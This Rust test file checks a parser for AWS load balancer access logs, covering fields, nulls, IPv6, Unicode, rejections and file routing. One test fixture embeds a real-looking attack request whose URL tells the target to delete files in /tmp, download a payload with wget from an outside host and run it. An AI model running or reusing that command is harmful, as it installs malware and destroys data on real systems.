//! Per-field ALB tests, one named case per oddity. Expected values come from FORMATS.md section 1.

use arrow_array::{Array, RecordBatch};

use crate::test_support::{float64, int32, int64, micros, text};
use crate::{AlbFormat, Decoded, LogFormat};

/// The first AWS documentation example line (33 fields).
const DOC_HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "-" "-" "-""#;

const DOC_HTTPS: &str = r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "-" "-" "-""#;

fn parse(line: &str) -> RecordBatch {
    let decoded = Decoded::from_bytes(&AlbFormat, line.as_bytes(), 1024).expect("decodes");
    assert!(
        decoded.rejects.is_empty(),
        "rejected: {:?}",
        decoded.rejects
    );
    assert_eq!(decoded.rows(), 1);
    decoded.batches.into_iter().next().expect("one batch")
}

fn reject_reason(line: &[u8]) -> String {
    let decoded = Decoded::from_bytes(&AlbFormat, line, 1024).expect("decodes");
    assert_eq!(decoded.rows(), 0, "parsed a line that should be rejected");
    assert_eq!(decoded.rejects.len(), 1);
    assert_eq!(decoded.rejects[0].raw, line, "raw bytes kept losslessly");
    decoded.rejects[0].reason.clone()
}

/// Replaces field `index` (0-based, as tokenized) of the first doc line.
fn with_field(index: usize, value: &str) -> String {
    let mut tokens = Vec::new();
    let mut t = crate::fields::Tokens::new(DOC_HTTP);
    while let Some(token) = t.next_token().expect("doc line tokenizes") {
        tokens.push(token.into_owned());
    }
    let quoted = [12, 13, 17, 18, 19, 22, 23, 24, 25, 26, 27, 28, 30, 31, 32];
    tokens
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let v = if i == index { value } else { t };
            if quoted.contains(&i) && !(i == index && value.starts_with('"')) {
                format!("\"{v}\"")
            } else {
                v.to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn schema_has_every_documented_field_in_order() {
    let schema = AlbFormat.schema();
    let names: Vec<&str> = schema.fields().iter().map(|f| f.name().as_str()).collect();
    assert_eq!(names.len(), 37);
    assert_eq!(
        &names[..5],
        ["type", "time", "elb", "client_ip", "client_port"]
    );
    assert_eq!(names[36], "request_transform_status");
    assert!(schema.fields().iter().all(|f| f.is_nullable()));
}

#[test]
fn documentation_http_line() {
    let b = parse(DOC_HTTP);
    assert_eq!(text(&b, "type").as_deref(), Some("http"));
    assert_eq!(micros(&b, "time"), Some(1_530_570_180_186_641));
    assert_eq!(
        text(&b, "elb").as_deref(),
        Some("app/my-loadbalancer/50dc6c495c0c9188")
    );
    assert_eq!(text(&b, "client_ip").as_deref(), Some("192.168.131.39"));
    assert_eq!(int32(&b, "client_port"), Some(2817));
    assert_eq!(text(&b, "target_ip").as_deref(), Some("10.0.0.1"));
    assert_eq!(int32(&b, "target_port"), Some(80));
    assert_eq!(float64(&b, "request_processing_time"), Some(0.0));
    assert_eq!(float64(&b, "target_processing_time"), Some(0.001));
    assert_eq!(int32(&b, "elb_status_code"), Some(200));
    assert_eq!(int32(&b, "target_status_code"), Some(200));
    assert_eq!(int64(&b, "received_bytes"), Some(34));
    assert_eq!(int64(&b, "sent_bytes"), Some(366));
    assert_eq!(text(&b, "request_verb").as_deref(), Some("GET"));
    assert_eq!(
        text(&b, "request_url").as_deref(),
        Some("http://www.example.com:80/")
    );
    assert_eq!(text(&b, "request_proto").as_deref(), Some("HTTP/1.1"));
    assert_eq!(text(&b, "user_agent").as_deref(), Some("curl/7.46.0"));
    assert_eq!(text(&b, "ssl_cipher"), None);
    assert_eq!(text(&b, "ssl_protocol"), None);
    assert_eq!(
        text(&b, "trace_id").as_deref(),
        Some("Root=1-58337262-36d228ad5d99923122bbe354")
    );
    assert_eq!(text(&b, "domain_name"), None);
    assert_eq!(text(&b, "chosen_cert_arn"), None);
    assert_eq!(int32(&b, "matched_rule_priority"), Some(0));
    assert_eq!(
        micros(&b, "request_creation_time"),
        Some(1_530_570_168_364_000)
    );
    assert_eq!(text(&b, "actions_executed").as_deref(), Some("forward"));
    assert_eq!(text(&b, "redirect_url"), None);
    assert_eq!(text(&b, "target_port_list").as_deref(), Some("10.0.0.1:80"));
    assert_eq!(text(&b, "target_status_code_list").as_deref(), Some("200"));
    assert_eq!(
        text(&b, "conn_trace_id").as_deref(),
        Some("TID_1234abcd5678ef90")
    );
    assert_eq!(text(&b, "transformed_host"), None);
    assert_eq!(text(&b, "request_transform_status"), None);
}

#[test]
fn documentation_https_line() {
    let b = parse(DOC_HTTPS);
    assert_eq!(float64(&b, "request_processing_time"), Some(0.086));
    assert_eq!(float64(&b, "response_processing_time"), Some(0.037));
    assert_eq!(
        text(&b, "ssl_cipher").as_deref(),
        Some("ECDHE-RSA-AES128-GCM-SHA256")
    );
    assert_eq!(text(&b, "ssl_protocol").as_deref(), Some("TLSv1.2"));
    assert_eq!(text(&b, "domain_name").as_deref(), Some("www.example.com"));
    assert_eq!(
        text(&b, "chosen_cert_arn").as_deref(),
        Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012")
    );
    assert_eq!(
        text(&b, "actions_executed").as_deref(),
        Some("authenticate,forward")
    );
}

#[test]
fn every_optional_field_dash_is_null() {
    let line = r#"http 2018-11-30T22:23:00.186641Z - - - - - - - - - - "-" "-" - - - "-" "-" "-" - - "-" "-" "-" "-" "-" "-" "-" - "-" "-" "-""#;
    let b = parse(line);
    for column in b.schema().fields().iter().map(|f| f.name().clone()) {
        if column != "type" && column != "time" {
            assert!(
                b.column_by_name(&column).unwrap().is_null(0),
                "{column} should be NULL"
            );
        }
    }
}

#[test]
fn minus_one_processing_times_are_kept() {
    let line = r#"http 2022-05-12T06:41:29.051646Z app/a/b 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://h:80/ HTTP/1.1" "-" - -"#;
    let b = parse(line);
    assert_eq!(float64(&b, "request_processing_time"), Some(-1.0));
    assert_eq!(float64(&b, "target_processing_time"), Some(-1.0));
    assert_eq!(float64(&b, "response_processing_time"), Some(-1.0));
    assert_eq!(text(&b, "target_ip"), None);
    assert_eq!(int32(&b, "target_port"), None);
    assert_eq!(int32(&b, "target_status_code"), None);
}

#[test]
fn ipv6_client_and_target() {
    let b = parse(
        &with_field(3, "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599").replace(
            "10.0.0.1:80 0.000",
            "fd6d:6bbc:c529:6::face:ed83:f46:80 0.000",
        ),
    );
    assert_eq!(
        text(&b, "client_ip").as_deref(),
        Some("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc")
    );
    assert_eq!(int32(&b, "client_port"), Some(50599));
    assert_eq!(
        text(&b, "target_ip").as_deref(),
        Some("fd6d:6bbc:c529:6::face:ed83:f46")
    );
    assert_eq!(int32(&b, "target_port"), Some(80));
}

#[test]
fn user_agent_with_spaces_and_escaped_quotes() {
    let b = parse(&with_field(13, r#""Mozilla/5.0 (X11; \"quoted\") Gecko""#));
    assert_eq!(
        text(&b, "user_agent").as_deref(),
        Some(r#"Mozilla/5.0 (X11; "quoted") Gecko"#)
    );
}

#[test]
fn url_with_spaces_stays_whole() {
    let b = parse(&with_field(
        12,
        "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1",
    ));
    assert_eq!(
        text(&b, "request_url").as_deref(),
        Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );
    assert_eq!(text(&b, "request_proto").as_deref(), Some("HTTP/1.1"));
}

#[test]
fn malformed_request_lines() {
    let b = parse(&with_field(12, "- http://www.example.com:80- -"));
    assert_eq!(text(&b, "request_verb"), None);
    assert_eq!(
        text(&b, "request_url").as_deref(),
        Some("http://www.example.com:80-")
    );
    assert_eq!(text(&b, "request_proto"), None);
    let b = parse(&with_field(12, "- - - "));
    assert_eq!(text(&b, "request_url"), None);
}

#[test]
fn unicode_values() {
    let b = parse(&with_field(13, "Mözilla/5.0 (日本語; ünïcode) 🚀"));
    assert_eq!(
        text(&b, "user_agent").as_deref(),
        Some("Mözilla/5.0 (日本語; ünïcode) 🚀")
    );
    let b = parse(&with_field(12, "GET https://例え.jp/パス?q=é HTTP/2.0"));
    assert_eq!(
        text(&b, "request_url").as_deref(),
        Some("https://例え.jp/パス?q=é")
    );
}

#[test]
fn session_reused_certificate() {
    let b = parse(&with_field(19, "session-reused"));
    assert_eq!(
        text(&b, "chosen_cert_arn").as_deref(),
        Some("session-reused")
    );
}

#[test]
fn empty_quoted_value_stays_empty() {
    let b = parse(&with_field(13, r#""""#));
    assert_eq!(text(&b, "user_agent").as_deref(), Some(""));
}

fn first_fields(n: usize) -> String {
    let mut t = crate::fields::Tokens::new(DOC_HTTPS);
    let mut raw = Vec::new();
    // Rebuild the wire text of the first n tokens from the original line.
    for _ in 0..n {
        let before = t.rest();
        t.next_token().unwrap().unwrap();
        let after = t.rest();
        raw.push(before[..before.len() - after.len()].trim_end().to_owned());
    }
    raw.join(" ")
}

#[test]
fn older_layouts_fill_trailing_nulls() {
    for (fields, last_present, first_absent) in [
        (16, "ssl_protocol", "target_group_arn"),
        (29, "classification_reason", "conn_trace_id"),
        (30, "conn_trace_id", "transformed_host"),
        (33, "request_transform_status", ""),
    ] {
        let line = first_fields(fields);
        let b = parse(&line);
        assert_eq!(int64(&b, "sent_bytes"), Some(57), "{fields} fields");
        if fields < 33 {
            assert!(
                b.column_by_name(first_absent).unwrap().is_null(0),
                "{fields}: {first_absent}"
            );
        }
        if last_present == "ssl_protocol" {
            assert_eq!(text(&b, last_present).as_deref(), Some("TLSv1.2"));
        }
        if last_present == "conn_trace_id" {
            assert_eq!(
                text(&b, last_present).as_deref(),
                Some("TID_1234abcd5678ef90")
            );
        }
    }
}

#[test]
fn extra_trailing_fields_are_ignored() {
    let b = parse(&format!(r#"{DOC_HTTP} 3.34.116.99 "-" "-" "x \" y""#));
    assert_eq!(text(&b, "request_transform_status"), None);
    assert_eq!(int64(&b, "sent_bytes"), Some(366));
    // An unbalanced quote after the known fields may be what is left of a shifted line.
    let reason = reject_reason(format!(r#"{DOC_HTTP} "garbage \" unbalanced"#).as_bytes());
    assert!(reason.contains("unterminated quote"), "{reason}");
}

#[test]
fn rejects_name_the_problem() {
    assert!(reject_reason(first_fields(15).as_bytes()).contains("only 15 fields"));
    assert!(reject_reason(with_field(1, "2018-07-02 22:23:00").as_bytes()).contains("`time`"));
    assert!(reject_reason(with_field(1, "-").as_bytes()).contains("missing timestamp"));
    assert!(reject_reason(with_field(8, "2OO").as_bytes()).contains("`elb_status_code`"));
    assert!(reject_reason(with_field(11, "12.5").as_bytes()).contains("`sent_bytes`"));
    assert!(reject_reason(with_field(3, "192.168.1.1").as_bytes()).contains("`client`"));
    assert!(reject_reason(with_field(5, "fast").as_bytes()).contains("`request_processing_time`"));
    assert!(
        reject_reason(with_field(21, "yesterday").as_bytes()).contains("`request_creation_time`")
    );
    assert!(
        reject_reason(br#"http 2018-07-02T22:23:00Z a "unterminated"#).contains("unterminated")
    );
    let mut invalid = DOC_HTTP.as_bytes().to_vec();
    invalid[60] = 0xff;
    assert!(reject_reason(&invalid).contains("UTF-8"));
}

#[test]
fn nlb_and_connection_log_lines_are_rejected() {
    let nlb = b"tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30";
    assert!(reject_reason(nlb).contains("`time`"));
    let conn =
        b"2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - \"-\" - - - TID_16132ed0b4112148";
    assert!(reject_reason(conn).contains("only 12 fields"));
}

#[test]
fn lines_and_counts_across_batches() {
    let mut input = String::new();
    for i in 0..10 {
        input.push_str(DOC_HTTP);
        input.push('\n');
        if i % 3 == 0 {
            input.push_str("not a log line\n\n");
        }
    }
    let decoded = Decoded::from_bytes(&AlbFormat, input.as_bytes(), 4).unwrap();
    assert_eq!(decoded.batches.len(), 3, "batches of 4, 4 and 2 rows");
    assert_eq!(decoded.rows(), 10);
    assert_eq!(decoded.counts.rows, 10);
    assert_eq!(decoded.counts.rejects, 4);
    assert_eq!(decoded.counts.lines, 14);
    assert_eq!(decoded.counts.skipped_lines, 4, "blank lines are not data");
    assert_eq!(decoded.rejects[0].line, 2);
    assert_eq!(
        decoded.rejects[1].line, 7,
        "blank lines keep their line numbers"
    );
    assert_eq!(decoded.counts.bytes, input.len() as u64);
}

#[test]
fn routes_by_file_name() {
    use crate::Route;
    let dir = "AWSLogs/123456789012/elasticloadbalancing/us-east-2/2022/05/01/";
    let route = |file: &str| AlbFormat.route(&format!("{dir}{file}"));
    assert_eq!(
        route(
            "123456789012_elasticloadbalancing_us-east-2_app.my-lb.1234567890abcdef_20140215T2340Z_172.160.001.192_20sg8hgm.log.gz"
        ),
        Route::Convert
    );
    assert!(matches!(
        route(
            "123456789012_elasticloadbalancing_us-east-2_net.my-nlb.1234567890abcdef_20140215T2340Z_172.160.001.192_20sg8hgm.log.gz"
        ),
        Route::Skip(_)
    ));
    assert!(matches!(
        route(
            "conn_log.123456789012_elasticloadbalancing_us-east-2_app.my-lb.1234_20140215T2340Z_172.160.001.192_20sg8hgm.log.gz"
        ),
        Route::Skip(_)
    ));
    assert!(matches!(
        route(
            "123456789012_elasticloadbalancing_us-east-2_my-classic-lb_20140215T2340Z_172.160.001.192_20sg8hgm.log"
        ),
        Route::Skip(_)
    ));
    assert_eq!(AlbFormat.route("collected/access.log"), Route::Convert);
    assert!(matches!(AlbFormat.route("notes/README.md"), Route::Skip(_)));
    assert_eq!(
        AlbFormat
            .region_from_key(&format!("{dir}x.log.gz"))
            .as_deref(),
        Some("us-east-2")
    );
}
